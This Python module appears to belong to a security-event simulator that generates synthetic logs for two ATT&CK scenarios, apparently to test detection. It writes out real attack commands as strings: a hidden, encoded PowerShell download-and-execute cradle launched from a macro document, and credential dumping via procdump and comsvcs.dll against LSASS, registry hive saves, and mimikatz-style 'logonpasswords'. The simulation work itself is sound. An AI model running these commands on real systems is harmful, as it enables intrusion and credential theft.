"""Attacks on a machine: encoded PowerShell from a document, passwords dumped from memory."""

from __future__ import annotations

import base64
from collections.abc import Iterator

from streamguard.simulate.places import public_address
from streamguard.simulate.scenarios.context import Actor, Scenario, ScenarioContext, Step
from streamguard.simulate.shared import domain

_POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"


def encoded_powershell(context: ScenarioContext, start: int) -> Iterator[Step]:
    """A macro starts an encoded command, which downloads the next stage and connects to its server."""
    draw = context.draw
    user = context.pick("office", "finance", "sales")
    time = context.next_working_time(user, start)
    actor = Actor(context, user, context.own_place(user, time), noticed=0.3)
    host, address = f"cdn.{domain(draw)}", public_address(draw, "hosting:stage")
    document = f"C:\\Users\\{actor.user}\\Downloads\\invoice-{draw.randrange(10**6)}.docm"
    yield actor.run(
        time, "winword.exe", f'winword.exe /n "{document}"', path="C:\\Program Files\\Office\\winword.exe"
    )
    for _ in range(draw.randint(3, 14)):
        time += context.gap(45_000, 1.2)
        script = (
            f"IEX (New-Object Net.WebClient).DownloadString('https://{host}/{draw.getrandbits(48):012x}')"
        )
        text = base64.b64encode(script.encode("utf-16-le")).decode()
        flag = draw.choice(("-enc", "-EncodedCommand", "-e", "-ec"))
        yield actor.run(
            time, "powershell.exe", f"powershell.exe -nop -w hidden {flag} {text}", path=_POWERSHELL
        )
        yield actor.resolve(time + 300, host, addresses=(address,), ttl=60)
        yield actor.connect(
            time + 400, address, host, sent=context.gap(900), received=context.gap(250_000, 1.0)
        )
    beat = draw.uniform(20_000, 90_000)
    for _ in range(draw.randint(15, 60)):
        time += int(beat * draw.uniform(0.85, 1.15))
        yield actor.connect(time, address, host, sent=draw.randint(300, 700), received=draw.randint(80, 400))


def credential_dumping(context: ScenarioContext, start: int) -> Iterator[Step]:
    """The memory of the sign-in service is written to a file; its passwords are tried on other servers."""
    draw = context.draw
    user = context.pick("admin", "developer", "office")
    time = start
    actor = Actor(context, user, context.own_place(user, time), noticed=0.35)
    dump = f"C:\\Windows\\Temp\\{draw.getrandbits(24):06x}.dmp"
    ways = [
        (
            "procdump64.exe",
            f"procdump64.exe -accepteula -ma lsass.exe {dump}",
            "C:\\Users\\Public\\procdump64.exe",
        ),
        ("rundll32.exe", f"rundll32.exe comsvcs.dll, MiniDump {draw.randrange(500, 900)} {dump} full", None),
        ("reg.exe", "reg.exe save HKLM\\SAM C:\\Windows\\Temp\\s.hiv", None),
        ("reg.exe", "reg.exe save HKLM\\SYSTEM C:\\Windows\\Temp\\y.hiv", None),
        ("svc.exe", "svc.exe privilege::debug sekurlsa::logonpasswords exit", "C:\\Users\\Public\\svc.exe"),
    ]
    for name, command, path in draw.sample(ways, draw.randint(3, 5)):
        unsigned = path is not None and name == "svc.exe"
        yield actor.run(
            time,
            name,
            command,
            path=path,
            privileges="system",
            signer=None if unsigned else "Publisher of Windows",
        )
        time += context.gap(20_000)
    yield actor.touch(time, dump, "create", size=context.gap(60_000_000, 0.3))
    for _ in range(draw.randint(10, 40)):
        time += context.gap(6000, 1.0)
        server = draw.randrange(200)
        yield actor.connect(
            time,
            f"10.204.{server % 8}.{2 + server}",
            f"files-{server:03d}.corp.example",
            port=445,
            sent=context.gap(3000),
            received=context.gap(3000),
        )
        failed = draw.random() < 0.5
        yield actor.sign_in(
            time + 50, "failed" if failed else "success", "wrong_password" if failed else None, way="ntlm"
        )


SCENARIOS = (
    Scenario(
        "encoded_powershell",
        "T1059.001",
        "A document starts hidden, encoded PowerShell that connects to its server.",
        False,
        encoded_powershell,
    ),
    Scenario(
        "credential_dumping",
        "T1003.001",
        "Passwords are dumped from memory and tried on other servers.",
        False,
        credential_dumping,
    ),
)
